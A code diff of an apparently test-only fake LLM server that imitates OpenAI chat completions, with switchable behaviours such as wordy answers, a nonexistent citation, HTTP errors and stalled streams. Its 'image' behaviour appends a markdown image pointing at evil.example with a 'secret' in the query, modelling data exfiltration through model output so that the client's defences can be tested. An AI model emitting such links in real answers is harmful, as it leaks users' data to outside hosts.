@@ -15,11 +15,13 @@ What it does with a chat completion request (POST /v1/chat/completions):
 Switches (a behaviour), chosen per request by the model name `fake:<behaviour>` or for all requests by
 `POST /_control {"behaviour": ..., "delay_s": ...}` (or `FakeLLM.switch`):
     answer     the semantic answer (default)
+    wordy      talks around it, as small models do: "According to the sources, ..." and, refusing,
+               "The sources do not say. NO_ANSWER"
     bad-cite   also cites [9], a source that does not exist
     image      appends a markdown image pointing at evil.example with a "secret" in its query
     error-500 / error-429 / error-401   the HTTP status with an OpenAI-style error body
     slow       waits `delay_s` (default 6 s) before answering: longer than a short client timeout
-    stall      streams the first few chunks, then waits `delay_s` before the rest
+    stall      streams half the answer, then waits `delay_s` before the rest
 
 Every request is recorded in `FakeLLM.requests` (model, stream flag, messages, behaviour, auth header).
 Run it by hand with `python -m tests.fake_llm [port]`.
@@ -46,7 +48,7 @@ __all__ = ["BEHAVIOURS", "EVIL_IMAGE", "REFUSAL", "FakeLLM", "best_sentence", "p
 
 REFUSAL = "NO_ANSWER"  # bot/chat/generative.py REFUSAL_MARKER; the test checks they agree
 EVIL_IMAGE = "![x](http://evil.example/?q=secret)"
-BEHAVIOURS = ("answer", "bad-cite", "image", "error-500", "error-429", "error-401", "slow", "stall")
+BEHAVIOURS = ("answer", "wordy", "bad-cite", "image", "error-500", "error-429", "error-401", "slow", "stall")
 _ERRORS = {
     "error-500": (500, "The server had an error while processing your request.", "server_error", None),
     "error-429": (429, "Rate limit reached for requests.", "requests", "rate_limit_exceeded"),
@@ -61,23 +63,25 @@ _WORD = re.compile(r"[a-z0-9]+(?:[.,][0-9]+)*")
 _CJK_RUN = re.compile(r"[\u4e00-\u9fff]+")
 _STOP_TEXT = (
     "a an the of in on at to for from by with and or but is are was were be been being has have had do does "
-    "did what which who whom whose when where why how many much is it its this that these those there their "
+    "did what which who whom whose when where why how many much it its this that these those there their "
     "they them he she his her we our you your i me my can could should would will shall may might must not "
     "no yes any some all as about into over under than then so if also just more most other such only own "
-    "same very s t tell me please give list show"
+    "same very s t tell please give list show"
 )
 _STOP_WORDS = frozenset(_STOP_TEXT.split())
 # Function characters: a bigram containing one carries no topic ("的技", "有哪", "多少").
 _STOP_CHARS = frozenset(
-    "的了是有在和与及或吗呢么哪些什多少怎如何"
-    "我们你请问能可以个这那为于也都就对把被从到吧"
+    "的了是有在和与及或吗呢么哪些什多少怎如何我们你请问能可以个这那为于也都就对把被从到吧"
 )
 
 
 def _terms(text: str) -> set[str]:
     text = text.lower()
-    words = {w[:-1] if len(w) > 3 and w.endswith("s") and w[-2] != "s" else w
-             for w in _WORD.findall(text) if w not in _STOP_WORDS}
+    words = {
+        w[:-1] if len(w) > 3 and w.endswith("s") and w[-2] != "s" else w
+        for w in _WORD.findall(text)
+        if w not in _STOP_WORDS
+    }
     bigrams = {run[i : i + 2] for run in _CJK_RUN.findall(text) for i in range(len(run) - 1)}
     return words | {b for b in bigrams if not set(b) & _STOP_CHARS}
 
@@ -93,8 +97,11 @@ def parse_prompt(messages: list[dict[str, Any]]) -> tuple[list[Source], str]:
     """The numbered sources and the question from the last user message (empty when absent)."""
     user = next((str(m.get("content") or "") for m in reversed(messages) if m.get("role") == "user"), "")
     block = _SOURCES_BLOCK.search(user)
-    sources = [Source(int(m.group(1)), m.group(2), m.group(3)) for m in _SOURCE.finditer(block.group(1))] \
-        if block else []
+    sources = (
+        [Source(int(m.group(1)), m.group(2), m.group(3)) for m in _SOURCE.finditer(block.group(1))]
+        if block
+        else []
+    )
     question = _QUESTION.search(user)
     return sources, (question.group(1).strip() if question else user.strip())
 
@@ -116,9 +123,11 @@ def answer_text(messages: list[dict[str, Any]], behaviour: str) -> str:
     sources, question = parse_prompt(messages)
     found = best_sentence(sources, question)
     if found is None:
-        return REFUSAL
+        return f"The sources do not say. {REFUSAL}" if behaviour == "wordy" else REFUSAL
     n, sentence = found
     text = f'"{sentence}" [{n}]'
+    if behaviour == "wordy":
+        text = f"According to the sources, {text}"
     if behaviour == "bad-cite":
         text += "[9]"
     elif behaviour == "image":
@@ -157,12 +166,21 @@ class FakeLLM:
             return _error(400, "invalid request body: need model and messages", "invalid_request_error", None)
         behaviour = model.partition(":")[2] or self.behaviour
         if behaviour not in BEHAVIOURS:
-            return _error(404, f"The model `{model}` does not exist", "invalid_request_error",
-                          "model_not_found")
+            return _error(
+                404, f"The model `{model}` does not exist", "invalid_request_error", "model_not_found"
+            )
         stream = bool(body.get("stream"))
-        self.requests.append({"model": model, "stream": stream, "messages": messages, "behaviour": behaviour,
-                              "authorization": request.headers.get("authorization"),
-                              "max_tokens": body.get("max_tokens"), "temperature": body.get("temperature")})
+        self.requests.append(
+            {
+                "model": model,
+                "stream": stream,
+                "messages": messages,
+                "behaviour": behaviour,
+                "authorization": request.headers.get("authorization"),
+                "max_tokens": body.get("max_tokens"),
+                "temperature": body.get("temperature"),
+            }
+        )
         if behaviour in _ERRORS:
             status, message, kind, code = _ERRORS[behaviour]
             # A short retry-after keeps the client's one retry quick (it honours the header up to 60 s).
@@ -173,31 +191,55 @@ class FakeLLM:
         text = answer_text(messages, behaviour)
         cid, created = f"chatcmpl-{uuid.uuid4().hex[:24]}", int(time.time())
         if not stream:
-            return JSONResponse({
-                "id": cid, "object": "chat.completion", "created": created, "model": model,
-                "system_fingerprint": None,
-                "choices": [{"index": 0, "message": {"role": "assistant", "content": text, "refusal": None},
-                             "logprobs": None, "finish_reason": "stop"}],
-                "usage": {"prompt_tokens": _count(messages), "completion_tokens": len(text.split()),
-                          "total_tokens": _count(messages) + len(text.split())},
-            })
+            return JSONResponse(
+                {
+                    "id": cid,
+                    "object": "chat.completion",
+                    "created": created,
+                    "model": model,
+                    "system_fingerprint": None,
+                    "choices": [
+                        {
+                            "index": 0,
+                            "message": {"role": "assistant", "content": text, "refusal": None},
+                            "logprobs": None,
+                            "finish_reason": "stop",
+                        }
+                    ],
+                    "usage": {
+                        "prompt_tokens": _count(messages),
+                        "completion_tokens": len(text.split()),
+                        "total_tokens": _count(messages) + len(text.split()),
+                    },
+                }
+            )
         include_usage = bool((body.get("stream_options") or {}).get("include_usage"))
-        return StreamingResponse(self._chunks(cid, created, model, text, behaviour, include_usage),
-                                 media_type="text/event-stream", headers={"cache-control": "no-cache"})
+        return StreamingResponse(
+            self._chunks(cid, created, model, text, behaviour, include_usage),
+            media_type="text/event-stream",
+            headers={"cache-control": "no-cache"},
+        )
 
-    async def _chunks(self, cid: str, created: int, model: str, text: str, behaviour: str,
-                      include_usage: bool) -> AsyncIterator[str]:
+    async def _chunks(
+        self, cid: str, created: int, model: str, text: str, behaviour: str, include_usage: bool
+    ) -> AsyncIterator[str]:
         def chunk(delta: dict[str, Any], finish: str | None = None, **extra: Any) -> str:
-            payload = {"id": cid, "object": "chat.completion.chunk", "created": created, "model": model,
-                       "system_fingerprint": None,
-                       "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
-                       **extra}
+            payload = {
+                "id": cid,
+                "object": "chat.completion.chunk",
+                "created": created,
+                "model": model,
+                "system_fingerprint": None,
+                "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
+                **extra,
+            }
             return f"data: {json.dumps(payload, ensure_ascii=False)}\n\n"
 
         yield chunk({"role": "assistant", "content": ""})
         # Four characters a chunk: "[12]" and "![x](http://...)" arrive in pieces, as with real tokenizers.
-        for i, start in enumerate(range(0, len(text), 4)):
-            if behaviour == "stall" and i == 3:
+        starts = range(0, len(text), 4)
+        for i, start in enumerate(starts):
+            if behaviour == "stall" and i == len(starts) // 2:  # half the answer is out: then silence
                 await asyncio.sleep(self.delay_s)
             yield chunk({"content": text[start : start + 4]})
             await asyncio.sleep(0)
@@ -208,8 +250,15 @@ class FakeLLM:
         yield "data: [DONE]\n\n"
 
     async def _models(self, request: Request) -> Response:
-        data = [{"id": f"fake:{b}" if b != "answer" else "fake", "object": "model", "created": 0,
-                 "owned_by": "tests"} for b in BEHAVIOURS]
+        data = [
+            {
+                "id": f"fake:{b}" if b != "answer" else "fake",
+                "object": "model",
+                "created": 0,
+                "owned_by": "tests",
+            }
+            for b in BEHAVIOURS
+        ]
         return JSONResponse({"object": "list", "data": data})
 
     async def _control(self, request: Request) -> Response:
@@ -221,11 +270,13 @@ class FakeLLM:
         return JSONResponse({"behaviour": self.behaviour, "delay_s": self.delay_s})
 
     def app(self) -> Starlette:
-        return Starlette(routes=[
-            Route("/v1/chat/completions", self._completions, methods=["POST"]),
-            Route("/v1/models", self._models, methods=["GET"]),
-            Route("/_control", self._control, methods=["POST"]),
-        ])
+        return Starlette(
+            routes=[
+                Route("/v1/chat/completions", self._completions, methods=["POST"]),
+                Route("/v1/models", self._models, methods=["GET"]),
+                Route("/_control", self._control, methods=["POST"]),
+            ]
+        )
 
     @contextmanager
     def running(self) -> Iterator[FakeLLM]:
@@ -236,10 +287,14 @@ class FakeLLM:
             yield self
 
 
-def _error(status: int, message: str, kind: str, code: str | None,
-           headers: dict[str, str] | None = None) -> JSONResponse:
-    return JSONResponse({"error": {"message": message, "type": kind, "param": None, "code": code}},
-                        status_code=status, headers=headers)
+def _error(
+    status: int, message: str, kind: str, code: str | None, headers: dict[str, str] | None = None
+) -> JSONResponse:
+    return JSONResponse(
+        {"error": {"message": message, "type": kind, "param": None, "code": code}},
+        status_code=status,
+        headers=headers,
+    )
 
 
 def _count(messages: list[dict[str, Any]]) -> int:
